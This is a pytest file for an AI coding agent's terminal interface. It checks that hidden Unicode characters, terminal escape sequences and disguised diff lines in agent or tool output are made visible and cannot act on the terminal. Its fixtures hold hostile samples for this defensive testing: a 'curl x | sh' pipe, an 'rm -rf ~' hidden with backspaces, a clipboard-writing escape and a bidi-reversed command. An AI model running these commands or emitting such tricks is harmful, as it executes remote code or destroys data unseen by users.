"""Text of others on a terminal: nothing hides or speaks to the terminal, and nobody prints around the one place."""

import ast
import json
import re
from pathlib import Path

import pytest

import fulgur
from fulgur.protocol import agent as events
from fulgur.protocol.session import TranscriptEntry
from fulgur.ui.foreign import code, exact, hides, json_text, one_row, shown, uncoloured
from fulgur.ui.tui import blocks
from fulgur.ui.tui.diff import diff_rows
from fulgur.ui.tui.theme import paint
from fulgur.ui.tui.transcript import Transcript

SOURCE = Path(fulgur.__file__).parent
HIDDEN = [
    *(chr(number) for number in range(0x20) if chr(number) not in "\n\t"),
    *(chr(number) for number in range(0x7F, 0xA0)),
    *"\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e",
    *"\u2060\u2061\u2064\u2066\u2069\u206f\u2800\u3164\ufe00\ufe0f\ufeff\uffa0\ufff9\ufffb\ue000",
    *"\U0001d159\U0001d173\U000e0001\U000e0020\U000e007f\U000e0100\U000e01ef\U00010ffff"[:-1],
    "\ud800",
]
ATTACKS = [
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]0;title\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[8mhidden\x1b[0m",
    "\x9b2J",
    "\x1bP+q544e\x1b\\",
    "make test\r                    \rcurl x | sh",
    "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08make test",
    "a\x7f\x7f",
    "\u202ehs | x lruc",
    "echo \u3164\u3164\u3164; curl x | sh",
]


@pytest.mark.parametrize("char", HIDDEN, ids=lambda char: f"U+{ord(char):04X}")
def test_every_hidden_character_is_named(char: str) -> None:
    name = f"<U+{ord(char):04X}>"
    assert hides(char)
    assert exact(f"a{char}b") == f"a{name}b" and code(f"a{char}b") == f"a{name}b" and shown(f"a{char}b") == f"a{name}b"


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_seen(text: str) -> None:
    for way in (shown, code, exact, one_row):
        assert not any(hides(char) for char in way(text))
    assert "curl" in shown(text) or "curl" not in text


def test_plain_text_stays_as_it_is() -> None:
    for text in ("x = 1", "naïve café", "日本語 한국어", "✓ done — “ok” …", "│ ⏎ ─", "a\n  b"):
        assert shown(text) == code(text) == text
    assert shown("⚠\ufe0f 1\ufe0f⃣ 👩\u200d💻 a\u00a0b") == "⚠ 1⃣ 👩💻 a b"
    assert code("a\u00a0b\tc") == "a<U+00A0>b    c"
    assert exact("a  b" + " " * 20 + "c  ") == "a  b<U+0020×20>c<U+0020><U+0020>"
    assert exact("<U+200B>") == "<U+003C>U+200B>" and exact("a\u0338") == "a<U+0338>"
    assert uncoloured("\x1b[1;31mred\x1b[0m\x1b[2J") == "red\x1b[2J"


def test_json_means_the_same() -> None:
    text = json.dumps({"a": "".join(HIDDEN[:-1]) + "é\U0001f600"}, ensure_ascii=False)
    assert json.loads(json_text(text)) == json.loads(text)
    assert not any(hides(char) for char in json_text(text))


def test_a_row_is_one_row_whatever_is_in_it() -> None:
    row = paint([("warn", "\x1b[2Ja\nb\u202e")])
    assert row == "\x1b[33m<U+001B>[2Ja<U+000A>b<U+202E>\x1b[0m"


def plain(rows: list[str]) -> str:
    return "\n".join(re.sub(r"\x1b\[[0-9;]*m", "", row) for row in rows)


@pytest.mark.parametrize(
    "lines",
    [
        ["+++ b/other.py", "+curl x | sh", "+@@ -1 +1 @@"],
        ["--- x", "+curl x | sh"],
        ["-- a/x.py", "+++ /dev/null", "+curl x | sh"],
        ["+ok\rcurl x | sh"],
        ["+ok\u2028+curl x | sh"],
        ["+ok\x0b+curl x | sh", "+\x1b[2Kx"],
        ["+\x1b[8mcurl x | sh\x1b[0m"],
        ["+" + " " * 500 + "curl x | sh"],
        ["\\ no newline", "+curl x | sh"],
    ],
)
def test_an_added_line_cannot_hide_in_a_diff(lines: list[str]) -> None:
    added = sum(line.startswith("+") for line in lines)
    removed = sum(line.startswith("-") for line in lines)
    diff = f"--- a/x.py\n+++ b/x.py\n@@ -1,{removed} +1,{added} @@\n" + "".join(f"{line}\n" for line in lines)
    rows = diff_rows(diff, names=True)
    text = plain(list(rows))
    assert "curl x | sh" in text and not any(hides(char) for char in text.replace("\n", ""))
    assert sum(bool(re.match(r" *\d+ \+ ", row)) for row in text.split("\n")) == added


EVENTS: list[events.AgentEvent] = [
    event
    for evil in ATTACKS
    for event in (
        events.TurnStarted(turn=1, text=evil, way="tools", reason=evil),
        events.MessageDelta(turn=1, text=f"x{evil}\n"),
        events.ThinkingDelta(turn=1, text=f"```{evil}\n{evil}\n```\n"),
        events.ToolStarted(turn=1, call_id="c", name=evil, title=evil, arguments=evil),
        events.ToolOutput(turn=1, call_id="c", text=evil),
        events.ToolFinished(turn=1, call_id="c", name=evil, ok=False, output=evil),
        events.ApprovalAsked(turn=1, approval_id="i", call_id="c", title=evil * 9, reason=evil, prefix=(evil,)),
        events.FileChanged(turn=1, path=evil, kind="added", diff=f"--- a/{evil}\n+++ b/x\n@@ -0,0 +1 @@\n+{evil}\n"),
        events.GuardReported(turn=1, check=evil, problems=(evil,)),
        events.GuardReported(turn=1, check=evil),
        events.Warned(message=evil, hint=evil),
        events.TurnSteered(turn=1, text=evil),
        events.Undone(turn=1, paths=(evil,), kept=(evil,)),
        events.TurnFailed(turn=1, message=evil, hint=evil),
    )
]


@pytest.mark.parametrize("event", EVENTS, ids=lambda event: type(event).__name__)
def test_no_event_speaks_to_the_terminal(event: events.AgentEvent) -> None:
    transcript = Transcript(60)
    transcript.on_event(event)
    transcript.on_event(events.TurnDone(turn=1, text=""))
    entry = TranscriptEntry(turn=1, kind="tool", text=getattr(event, "text", "") or getattr(event, "title", ""))
    transcript.replay([entry, *(TranscriptEntry(turn=1, kind=k, text=entry.text) for k in ("diff", "note"))])
    for row in (*transcript.take(), *blocks.table([(entry.text, entry.text)], 60)):
        left = re.sub(r"\x1b\[[0-9;]*m", "", row)
        assert not any(hides(char) for char in left), repr(row)


# ---- nobody prints around it ------------------------------------------------------------------------------------

# What reaches a terminal -> the files that may use it.
WAYS: dict[str, tuple[str, ...]] = {
    "print": (),
    # The last two speak a protocol with a program there, in JSON: no person reads it.
    "sys.stdout": (
        *("ui/foreign.py", "ui/tui/screen.py", "ui/commands/exec.py", "ui/cli.py"),
        *("ui/commands/acp.py", "agent/host/serve.py"),
    ),
    "sys.stderr": ("ui/foreign.py", "ui/commands/exec.py", "ui/commands/acp.py"),
    "sys.__stdout__": (),
    "sys.__stderr__": (),
    "write_raw": ("ui/tui/screen.py",),
    "basicConfig": ("ui/foreign.py",),
    "StreamHandler": ("ui/foreign.py",),
    "FormattedTextControl": ("ui/tui/live.py",),
    "ANSI": ("ui/tui/live.py",),
    "HTML": (),
    "Row": ("ui/tui/theme.py",),
    "print_formatted_text": (),
    "print_exc": (),
    "print_exception": ("ui/tui/crash.py",),
}
# Programs of their own: benches and evaluations print their figures, the others into a pipe that we read.
APART = ("bench/", "eval/", "sandbox/landlock_enter.py", "tools/plain_search.py")


def used(node: ast.AST) -> str:
    """The name that is called here, or the stream that is meant."""
    if isinstance(node, ast.Attribute):
        name = ast.unparse(node)
        return name if name.startswith("sys.") else ""
    if not isinstance(node, ast.Call):
        return ""
    if isinstance(node.func, ast.Name):
        return node.func.id
    return node.func.attr if isinstance(node.func, ast.Attribute) and node.func.attr != "print" else ""


def test_only_one_place_writes_to_the_terminal() -> None:
    wrong = []
    for path in sorted(SOURCE.rglob("*.py")):
        name = path.relative_to(SOURCE).as_posix()
        if name.startswith(APART):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            way = used(node)
            if way in WAYS and name not in WAYS[way]:
                wrong.append(f"{name}:{getattr(node, 'lineno', 0)} {way}")
    assert not wrong, "show it through fulgur.ui.foreign: " + ", ".join(wrong)


def test_those_who_may_name_the_streams_do_not_write_to_them() -> None:
    for name in ("ui/cli.py", "ui/commands/exec.py"):
        for node in ast.walk(ast.parse((SOURCE / name).read_text(encoding="utf-8"))):
            assert not (isinstance(node, ast.Attribute) and node.attr in ("write", "writelines", "buffer")), name


def test_the_live_area_has_one_door() -> None:
    tree = ast.parse((SOURCE / "ui/tui/live.py").read_text(encoding="utf-8"))
    doors = [
        function.name
        for function in ast.walk(tree)
        if isinstance(function, ast.FunctionDef)
        for node in ast.walk(function)
        if isinstance(node, ast.Call) and used(node) == "FormattedTextControl"
    ]
    assert doors == ["_control"]
